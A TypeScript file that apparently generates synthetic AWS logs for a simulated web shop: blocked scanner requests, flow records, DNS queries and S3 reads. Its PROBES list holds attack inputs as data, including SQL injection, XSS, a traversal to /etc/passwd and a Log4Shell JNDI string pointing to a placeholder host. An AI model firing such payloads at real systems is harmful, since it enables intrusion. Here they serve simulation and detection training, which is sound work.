import { anyTime, type Day, isRunning, visitorTime } from "../day";
import type { LogEvent } from "../event";
import type { Random } from "../random";
import { s3RequestId } from "../records/cloudtrail";
import { flowEvent, queryEvent } from "../records/network";
import { s3AccessEvent } from "../records/s3-access";
import { type WafMatch, webRequestEvents } from "../records/web";
import { SECOND } from "../time";
import { BROWSERS, type Instance, type Network, SHOP_ACCOUNT } from "../world";

const PAGES = [
  "/",
  "/search?q=lamp",
  "/search?q=chair",
  "/cart",
  "/checkout",
  "/login",
  "/api/stock",
  "/about",
] as const;

const PROBES: readonly (readonly [string, WafMatch])[] = (
  [
    ["/.env", "KnownBadInputs", "ExploitablePaths_URIPATH"],
    ["/wp-login.php", "KnownBadInputs", "ExploitablePaths_URIPATH"],
    ["/?id=1%27%20OR%20%271%27=%271", "Common", "GenericRFI_QueryArguments"],
    ["/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "Common", "CrossSiteScripting_QueryArguments"],
    ["/product/image?url=..%2f..%2f..%2fetc%2fpasswd", "Common", "GenericLFI_QueryArguments"],
    ["/cgi-bin/luci/;stok=/locale", "KnownBadInputs", "ExploitablePaths_URIPATH"],
    ["/?x=%24%7Bjndi:ldap://192.0.2.1/a%7D", "KnownBadInputs", "Log4JRCE_QUERYSTRING"],
  ] as const
).map(([target, group, rule]) => [target, wafMatch(group, rule, "BLOCK")] as const);

export function wafMatch(group: "Common" | "KnownBadInputs", rule: string, action: WafMatch["action"]): WafMatch {
  const labels = { Common: "core-rule-set", KnownBadInputs: "known-bad-inputs" } as const;
  return { group: `AWSManagedRules${group}RuleSet`, rule, label: `${labels[group]}:${rule}`, action };
}

/** A customer's request or a scanner's; two records. */
export function webRequest(day: Day, random: Random): [LogEvent, LogEvent] {
  const { world } = day;
  const time = visitorTime(day, random);
  const common = { time, clientPort: random.integer(1024, 65_535), node: random.integer(0, 1) };
  if (random.chance(0.12)) {
    const [target, rule] = random.pick(PROBES);
    const clientIp = random.pick(world.scanners);
    return webRequestEvents(world, random, {
      ...common,
      clientIp,
      country: clientIp.startsWith("198.51.100.") ? "NL" : "US",
      method: "GET",
      target,
      userAgent: random.pick(["Mozilla/5.0 zgrab/0.x", "python-requests/2.32.3", "Nuclei - Open-source project", "-"]),
      status: 403,
      responseBytes: 118,
      rule,
    });
  }
  return customerRequest(day, random, time, random.pick(world.customers), random.pick(BROWSERS));
}

export function customerRequest(
  day: Day,
  random: Random,
  time: number,
  clientIp: string,
  userAgent: string,
): [LogEvent, LogEvent] {
  const target = random.chance(0.5)
    ? `/product/${random.integer(1000, 1400)}`
    : random.chance(0.3)
      ? `/product/image?url=https%3A%2F%2Fimages.example.com%2F${random.integer(1000, 1400)}.jpg`
      : random.pick(PAGES);
  const posts = target === "/login" || target === "/checkout";
  const status = random.weighted([
    [200, 90],
    [304, 5],
    [404, 3],
    [500, 1],
    [302, 2],
  ] as const);
  return webRequestEvents(day.world, random, {
    time,
    clientIp,
    clientPort: random.integer(1024, 65_535),
    node: random.integer(0, 1),
    country: "US",
    method: posts ? "POST" : "GET",
    target,
    userAgent,
    status,
    responseBytes: random.integer(400, 48_000),
    instance: random.pick(day.world.shop.instances.filter((instance) => isRunning(day, instance, time))),
  });
}

/** Where instances connect to: name, address, port, the AWS service behind it. */
const OUTSIDE = [
  { name: "payments.example.net", address: "192.0.2.210", port: 443 },
  { name: "mail.example.net", address: "192.0.2.211", port: 587 },
  { name: "packages.example.org", address: "192.0.2.212", port: 443 },
  { name: "s3.eu-west-1.amazonaws.com", address: "192.0.2.220", port: 443, awsService: "S3" },
  { name: "secretsmanager.eu-west-1.amazonaws.com", address: "192.0.2.221", port: 443, awsService: "AMAZON" },
  { name: "ssm.eu-west-1.amazonaws.com", address: "192.0.2.222", port: 443, awsService: "AMAZON" },
  { name: "monitoring.eu-west-1.amazonaws.com", address: "192.0.2.223", port: 443, awsService: "AMAZON" },
] as const;

export function flow(day: Day, random: Random): LogEvent {
  const { world } = day;
  const development = random.chance(0.22);
  const network = development ? world.development : world.shop;
  const time = development ? anyTime(day, random) : visitorTime(day, random);
  const instance = runningInstance(day, random, network, time);
  const size = { packets: random.integer(4, 60), bytes: random.integer(400, 60_000), seconds: random.integer(5, 59) };
  const node = random.pick(world.loadBalancer.nodes);
  const kind = random.weighted([
    ["web", development ? 0 : 30],
    ["client", development ? 0 : 22],
    ["database", 20],
    ["outside", 22],
    ["scan", 6],
  ] as const);
  const port = random.integer(32_768, 60_999);
  const common = { time, protocol: 6, action: "ACCEPT" as const, ...size };
  switch (kind) {
    case "web":
      return flowEvent(network, {
        ...common,
        interfaceId: instance.interfaceId,
        instance,
        sourceIp: node.privateIp,
        sourcePort: port,
        destinationIp: instance.privateIp,
        destinationPort: 8080,
        direction: "ingress",
      });
    case "client":
      return flowEvent(network, {
        ...common,
        interfaceId: node.interfaceId,
        sourceIp: random.pick(world.customers.filter((address) => !address.includes(":"))),
        sourcePort: port,
        destinationIp: node.privateIp,
        destinationPort: 443,
        direction: "ingress",
      });
    case "database":
      return flowEvent(network, {
        ...common,
        interfaceId: instance.interfaceId,
        instance,
        sourceIp: instance.privateIp,
        sourcePort: port,
        destinationIp: network.databaseIp,
        destinationPort: 3306,
        direction: "egress",
      });
    case "outside":
      return outsideFlow(random, network, instance, time);
    case "scan":
      return flowEvent(network, {
        ...common,
        packets: 1,
        bytes: 44,
        interfaceId: development ? instance.interfaceId : node.interfaceId,
        instance: development ? instance : undefined,
        sourceIp: random.pick(world.scanners),
        sourcePort: port,
        destinationIp: development ? instance.privateIp : node.privateIp,
        destinationPort: random.pick([22, 23, 3389, 445, 8443]),
        action: "REJECT",
        direction: "ingress",
      });
  }
}

function outsideFlow(random: Random, network: Network, instance: Instance, time: number): LogEvent {
  const { address, port, ...rest } = random.pick(OUTSIDE);
  const outbound = random.chance(0.5);
  const local = random.integer(32_768, 60_999);
  return flowEvent(network, {
    time,
    protocol: 6,
    action: "ACCEPT",
    packets: random.integer(6, 50),
    bytes: random.integer(800, 90_000),
    seconds: random.integer(5, 59),
    interfaceId: instance.interfaceId,
    instance,
    sourceIp: outbound ? instance.privateIp : address,
    sourcePort: outbound ? local : port,
    destinationIp: outbound ? address : instance.privateIp,
    destinationPort: outbound ? port : local,
    direction: outbound ? "egress" : "ingress",
    ...("awsService" in rest ? { awsService: rest.awsService } : {}),
  });
}

export function query(day: Day, random: Random): LogEvent {
  const network = random.chance(0.25) ? day.world.development : day.world.shop;
  const time = visitorTime(day, random);
  const instance = runningInstance(day, random, network, time);
  const { name, address } = random.pick(OUTSIDE);
  const missing = random.chance(0.04);
  const type = random.chance(0.2) ? "AAAA" : "A";
  return queryEvent(network, random, {
    time,
    instance,
    name: missing ? `${name}.eu-west-1.compute.internal` : name,
    type,
    answer: missing ? undefined : type === "A" ? address : `2001:db8:ffff::${address.split(".")[3] ?? "1"}`,
  });
}

/** The shop reads its product images through the gateway endpoint, so the bucket sees a private address. */
export function imageRead(day: Day, random: Random): LogEvent {
  const { world } = day;
  const time = visitorTime(day, random);
  const instance = runningInstance(day, random, world.shop, time);
  return s3AccessEvent(world, random, {
    time: time + random.integer(0, SECOND),
    bucket: "images",
    requester: `arn:aws:sts::${SHOP_ACCOUNT}:assumed-role/${world.instanceRole.name}/${instance.id}`,
    remoteIp: instance.privateIp,
    requestId: s3RequestId(random),
    operation: random.chance(0.9) ? "REST.GET.OBJECT" : "REST.HEAD.OBJECT",
    key: `products/${random.integer(1000, 1400)}.jpg`,
    bytes: random.integer(20_000, 900_000),
    userAgent: "aws-sdk-java/2.29.20 Linux/6.1.115 OpenJDK_64-Bit_Server_VM/21.0.5",
  });
}

function runningInstance(day: Day, random: Random, network: Network, time: number): Instance {
  const running = network.instances.filter((instance) => isRunning(day, instance, time));
  return random.pick(running.length > 0 ? running : network.instances.slice(0, 1));
}
